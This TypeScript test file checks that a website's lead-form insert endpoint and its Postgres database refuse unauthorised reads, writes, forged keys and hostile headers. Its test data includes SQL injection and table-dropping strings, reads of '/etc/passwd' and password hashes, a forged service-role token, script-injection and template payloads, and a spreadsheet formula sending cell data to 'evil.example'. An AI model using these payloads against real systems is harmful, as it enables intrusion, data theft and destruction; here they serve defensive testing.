import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createBackend, type Backend } from '../../site/server/insert-rows.ts';
import type { Database } from '../../site/server/database/database.ts';
import { integrations } from '#spec/integrations.ts';
import { openDatabaseUrl } from '../../site/server/database/open.ts';
import { asAnon } from './support/anon.ts';
import { onHosted, onOneEngine } from './support/engines.ts';
import { pushMigrations } from './support/hosted.ts';
import { asPostgrest, postgrestInsert } from './support/postgrest.ts';
import { insertRequest, type RequestChange } from './support/request.ts';
import { anonKey, application, lead, restPath, tables } from './support/tables.ts';

function body(change: object): string {
  return JSON.stringify([{ ...lead, ...change }]);
}

function path(rest: string): string {
  return `${restPath}/${rest}`;
}

const many = JSON.stringify(Array.from({ length: 1000 }, () => lead));
const serviceKey = `eyJhbGciOiJIUzI1NiJ9.${Buffer.from('{"role":"service_role"}').toString('base64url')}.c2lnbmF0dXJl`;
const toApplications = (change: object): RequestChange => ({
  path: path('career_applications'),
  body: JSON.stringify([{ ...application, ...change }]),
});

/** Requests that the handler rejects before it queries the database. */
const refusals: [name: string, request: RequestChange, answer: string][] = [
  ['reading rows', { method: 'GET', path: path('leads?select=*') }, '405 PGRST117'],
  ['counting rows', { method: 'HEAD', path: path('leads'), headers: { prefer: 'count=exact' } }, '405 PGRST117'],
  ['changing rows', { method: 'PATCH', path: path('leads?name=eq.Ana'), body: '{"name":"x"}' }, '405 PGRST117'],
  ['deleting rows', { method: 'DELETE', path: path('leads?name=eq.Ana') }, '405 PGRST117'],
  ['replacing a row', { method: 'PUT', path: path('leads?id=eq.1') }, '405 PGRST117'],
  ['merging duplicates', { headers: { prefer: 'resolution=merge-duplicates' } }, '401 42501'],
  ['probing for duplicates', { path: path('leads?on_conflict=id') }, '401 42501'],
  ['having the row given back', { headers: { prefer: 'return=representation' } }, '401 42501'],
  ['choosing the id', { body: body({ id: crypto.randomUUID() }) }, '400 PGRST204'],
  ['choosing the time', { body: body({ created_at: '2000-01-01' }) }, '400 PGRST204'],
  ['a column that does not exist', { body: body({ admin: true }) }, '400 PGRST204'],
  ['a column name that is SQL', { body: '[{"name\\") select version(); --":"x"}]' }, '400 PGRST204'],
  ['a message of a megabyte', { body: body({ message: 'x'.repeat(1_000_000) }) }, '413 54000'],
  ['no key', { headers: { apikey: null, authorization: null } }, '401 PGRST301'],
  ['a forged key', { headers: { apikey: serviceKey, authorization: `Bearer ${serviceKey}` } }, '401 PGRST301'],
  ['a forged token beside the key', { headers: { authorization: `Bearer ${serviceKey}` } }, '401 PGRST301'],
  ['no JSON', { body: 'name=Ana', headers: { 'content-type': 'application/x-www-form-urlencoded' } }, '400 PGRST102'],
  ['a table name that is SQL', { path: path(encodeURIComponent('leads; drop table leads')) }, '404 PGRST205'],
  ['a table of the system', { path: path('pg_authid') }, '404 PGRST205'],
  ['a table of the private schema', { path: path('requests') }, '404 PGRST205'],
  ['calling a function', { path: path('rpc/guard_request'), body: '{}' }, '404 PGRST205'],
  ['a state of its own', toApplications({ estado: 'aceptada' }), '401 42501'],
  ['an object where a time should be', toApplications({ fecha_aplicacion: { a: 1 } }), '400 22007'],
];

/** Statements that the database itself rejects, without the server in front. */
const forbidden = [
  'select * from public.leads',
  'select count(*) from public.leads',
  "update public.leads set name = 'x'",
  'delete from public.leads',
  'truncate public.leads',
  "insert into public.leads (name, email, message) values ('a', 'b', 'c') on conflict (id) do update set name = 'x'",
  "insert into public.leads (name, email, message) values ('a', 'b', 'c') on conflict (id) do nothing",
  "insert into public.leads (name, email, message) values ('a', 'b', 'c') returning *",
  'insert into public.leads (name, email, message) select name, email, message from public.leads',
  "insert into public.leads (id, name, email, message) values (gen_random_uuid(), 'a', 'b', 'c')",
  "insert into public.leads (created_at, name, email, message) values (now(), 'a', 'b', 'c')",
  'grant select on public.leads to anon',
  'select set_config(\'request.jwt.claims\', \'{"role":"service_role"}\', true), * from public.leads',
  'alter table public.leads disable row level security',
  'insert into public.leads (name) select email from public.career_applications',
  'drop table public.leads',
  'select rolpassword from pg_catalog.pg_authid',
  'select * from site_internal.requests',
  'insert into site_internal.arrivals (sender) values (null)',
  'select sender from site_internal.arrivals',
  'select value from site_internal.salt',
  "update site_internal.salt set value = ''",
  'delete from site_internal.arrivals',
  "insert into site_internal.requests (digest) values ('x')",
  'select * from site_internal.schema_migrations',
  'select site_internal.guard_request()',
  "select site_internal.digest_of_address('192.0.2.1')",
  'select site_internal.refuse_many_rows()',
  'create or replace function site_internal.guard_request() returns trigger language sql as $$ $$',
  'alter table public.leads disable trigger leads_guard',
  'drop policy leads_insert on public.leads',
  'create trigger mine before insert on public.leads for each row execute function suppress_redundant_updates_trigger()',
  "select pg_read_file('/etc/passwd')",
];

/** The body of an insert, the handler's response, and the database's own result. */
const bodies: [name: string, body: string, answer: string, verdict: string][] = [
  ['a name that is too long', body({ name: 'x'.repeat(321) }), '400 23514', '23514'],
  ['nothing but spaces', body({ message: ' \n\t' }), '400 23514', '23514'],
  ['two rows at once', JSON.stringify([lead, { ...lead, name: 'Eva' }]), '400 54000', 'PT400'],
  ['a thousand rows at once', many, '400 54000', 'PT429'],
  ['broken JSON', '[{"name":', '400 PGRST102', '22P02'],
  ['a list where a row should be', '[[1]]', '400 PGRST102', '22023'],
  ['null where a text should be', body({ name: null }), '400 23502', '23502'],
];

/** The statement by which the site's own server inserts a body. */
const columns = tables.leads.columns.join(', ');
const INSERT = `insert into public.leads (${columns}) select ${columns} from json_populate_recordset(null::public.leads, $1::json)`;

/** Texts that would do harm if anything interpreted them. */
const texts: [name: string, value: string][] = [
  ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['SQL', "'); drop table public.leads; --"],
  ['SQL in dollar quotes', '$$; delete from public.leads; $$'],
  ['a formula', '=HYPERLINK("http://evil.example/?"&A1,"click")'],
  ['a command of a spreadsheet', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['a template', '{{constructor.constructor("return process")()}} ${7*7}'],
  ['a path', '../../etc/passwd'],
  ['control characters', 'a\u001b[2J\u0007\r\nSet-Cookie: a=b'],
  ['characters that turn the writing around', '\u202egpj.exe'],
  ['JSON within JSON', '{"__proto__":{"admin":true}}'],
];

onOneEngine('an attack', ({ openMigrated }) => {
  let database: Database;
  let backend: Backend;
  const leads = (): Promise<object[]> => database.query('select name, email, company, message from public.leads');

  beforeAll(async () => {
    database = await openMigrated();
    backend = createBackend({ database, tables, anonKey });
  });
  beforeEach(async () => {
    await database.script(
      'truncate public.leads, public.career_applications, site_internal.requests, site_internal.arrivals',
    );
    await database.script("insert into public.leads (name, email, message) values ('Ana', 'ana@example.com', 'Hola')");
  });

  const refuses = async (request: RequestChange, answer: string): Promise<void> => {
    const response = await backend.fetch(insertRequest(request), '192.0.2.1');
    const refusal = (await response.json()) as Record<string, unknown>;
    expect(`${response.status} ${String(refusal['code'])}`, 'the handler').toBe(answer);
    expect(Object.keys(refusal), 'what it says').toEqual(['code', 'message', 'details', 'hint']);
    expect(JSON.stringify(refusal), 'what it says').not.toContain('ana@example.com');
  };
  const nothingHappened = async (): Promise<void> => {
    expect(await leads(), 'what is stored').toEqual([lead]);
    expect(await database.query('select * from public.career_applications')).toEqual([]);
  };
  const from = { 'x-forwarded-for': '192.0.2.1' };

  // oxlint-disable-next-line vitest/expect-expect -- the assertions are in the functions
  it.each(refusals)('%s', async (_name, request, answer) => {
    await refuses(request, answer);
    await nothingHappened();
  });

  it('is refused by the database itself', async () => {
    for (const statement of forbidden)
      expect([statement, await asAnon(database, statement, [], from)]).toEqual([statement, '42501']);
    await nothingHappened();
  });

  it.each(bodies)('%s', async (_name, text, answer, verdict) => {
    await refuses({ body: text }, answer);
    expect(await asAnon(database, INSERT, [text], from), 'the database').toBe(verdict);
    await nothingHappened();
  });

  it.each(Object.keys(tables))('reading, changing, deleting and emptying %s', async (table) => {
    const statements = [
      `select id from public.${table}`,
      `update public.${table} set id = id`,
      `delete from public.${table}`,
      `truncate public.${table}`,
    ];
    for (const role of ['anon', 'authenticated']) {
      for (const statement of statements) {
        const refused = database.transaction(async (connection) => {
          await connection.query(`set local role ${role}`);
          await connection.query(statement);
        });
        await expect(refused, `${role}: ${statement}`).rejects.toMatchObject({ code: '42501' });
      }
    }
  });

  it.each(texts)('%s as text is stored as it is, and does nothing', async (_name, message) => {
    expect((await backend.fetch(insertRequest({ body: body({ message }) }))).status).toBe(201);
    expect(await asAnon(database, INSERT, [body({ message })])).toBe('ok');
    expect(await leads()).toEqual([lead, { ...lead, message }, { ...lead, message }]);
  });

  describe('by the headers of the request', () => {
    const insert = [INSERT, [body({})]] as const;

    it.each<[string, string]>([
      ['SQL', "'); delete from public.leads; --"],
      ['16 kilobytes', 'x'.repeat(16_000)],
      ['JSON', '","x-forwarded-for":"203.0.113.1'],
      ['the key of nobody', '00000000-0000-4000-8000-000000000000'],
    ])('a key that is %s is a key like any other', async (_what, key) => {
      for (const answer of [201, 201]) {
        expect((await backend.fetch(insertRequest({ headers: { 'idempotency-key': key } }), '192.0.2.1')).status).toBe(
          answer,
        );
      }
      expect(await leads()).toHaveLength(2);
      expect(await database.query('select 1 from site_internal.arrivals')).toHaveLength(1);
    });

    it('forged headers of a client are ignored', async () => {
      const forged = {
        'request.headers': '{}',
        'request-headers': '{}',
        'x-forwarded-for': '203.0.113.1',
        role: 'postgres',
        'accept-profile': 'site_internal',
      };
      for (let index = 0; index < integrations.backend.insertsPerMinute; index += 1)
        await backend.fetch(insertRequest(), '192.0.2.1');
      expect((await backend.fetch(insertRequest({ headers: forged }), '192.0.2.1')).status).toBe(429);
    });

    it.each([
      ['no JSON', 'nonsense', '22P02'],
      ['a list', '[1]', 'ok'],
      ['a text', '"x"', 'ok'],
      ['nothing', '', 'ok'],
      ['an object where the key should be', '{"idempotency-key":{"a":[1]},"x-forwarded-for":{}}', 'ok'],
      ['an address that is SQL', '{"x-forwarded-for":"1\'; drop table public.leads; --"}', 'ok'],
    ])('request.headers that are %s break nothing', async (_what, headers, verdict) => {
      const run = database.transaction(async (connection) => {
        await connection.query('set local role anon');
        await connection.query("select set_config('request.headers', $1, true)", [headers]);
        await connection.query(...insert);
      });
      expect(
        await run.then(
          () => 'ok',
          (error: { code: string }) => error.code,
        ),
      ).toBe(verdict);
      expect(await leads()).toHaveLength(verdict === 'ok' ? 2 : 1);
    });

    it('a temporary type does not stand in for one that the guard uses', async () => {
      await database.transaction(async (connection) => {
        await connection.query('set local role anon');
        await connection.query("create type pg_temp.inet as enum ('x')");
        await connection.query("create type pg_temp.bytea as enum ('x')");
        await connection.query(`select set_config('request.headers', '{"x-forwarded-for":"192.0.2.1"}', true)`);
        await connection.query(...insert);
        await connection.query('reset role');
        expect(await connection.query('select 1 from site_internal.arrivals')).toHaveLength(1);
        await connection.script('drop type pg_temp.inet; drop type pg_temp.bytea');
      });
    });
  });
});

onHosted('an attack', (create, add, kind) => {
  let owner: Database;
  let requests: Database;
  let insert: string;
  const from = { 'x-forwarded-for': '192.0.2.1' };
  const run = (text: string, headers: Record<string, string> = from): Promise<string> =>
    asPostgrest(requests, insert, [text], headers);
  const leads = (): Promise<object[]> => owner.query('select name, email, company, message from public.leads');

  beforeAll(async () => {
    const project = await create();
    owner = add(await openDatabaseUrl(project.address));
    await pushMigrations(owner);
    requests = add(await openDatabaseUrl(project.requests));
    insert = await postgrestInsert(requests, 'leads', tables.leads.columns);
  });
  beforeEach(async () => {
    await owner.script(
      'truncate public.leads, public.career_applications, site_internal.requests, site_internal.arrivals',
    );
    await owner.script("insert into public.leads (name, email, message) values ('Ana', 'ana@example.com', 'Hola')");
  });

  it('is refused by the database', async () => {
    for (const statement of forbidden)
      expect([statement, await asPostgrest(requests, statement, [], from)]).toEqual([statement, '42501']);
    for (const [name, text, _answer, verdict] of bodies) expect([name, await run(text)]).toEqual([name, verdict]);
    expect(await leads(), 'what is stored').toEqual([lead]);
  });

  it.each(['anon', 'authenticated'])('reading, changing, deleting and emptying a table as %s', async (role) => {
    for (const table of Object.keys(tables)) {
      for (const statement of ['select id from', 'update', 'delete from', 'truncate'].map(
        (verb) => `${verb} public.${table}${verb === 'update' ? ' set id = id' : ''}`,
      )) {
        const refused = requests.transaction(async (connection) => {
          await connection.query(`set local role ${role}`);
          await connection.query(statement);
        });
        await expect(refused, `${role}: ${statement}`).rejects.toMatchObject({ code: '42501' });
      }
    }
  });

  it('reaches an unprotected table only as far as the kind of project allows', async () => {
    await owner.script('create table public.unguarded (name text)');
    expect(await asPostgrest(requests, 'select * from public.unguarded')).toBe(kind === 'classic' ? 'ok' : '42501');
    expect(await asPostgrest(requests, 'truncate public.unguarded')).toBe('ok');
    await owner.script('drop table public.unguarded');
  });

  it('legitimate messages are stored once, up to the rate limit', async () => {
    const { insertsPerMinute } = integrations.backend;
    const send = (key: string, message = 'Hola'): Promise<string> =>
      run(body({ message }), { ...from, 'idempotency-key': key });
    for (let index = 0; index < insertsPerMinute; index += 1) expect(await send(`key ${index}`)).toBe('ok');
    expect(await send('key 0')).toBe('ok');
    expect(await send('another')).toBe('PT429');
    expect(await leads()).toHaveLength(1 + insertsPerMinute);
    expect(await run(body({}), { 'cf-connecting-ip': '192.0.2.2', ...from })).toBe('ok');
  });
});
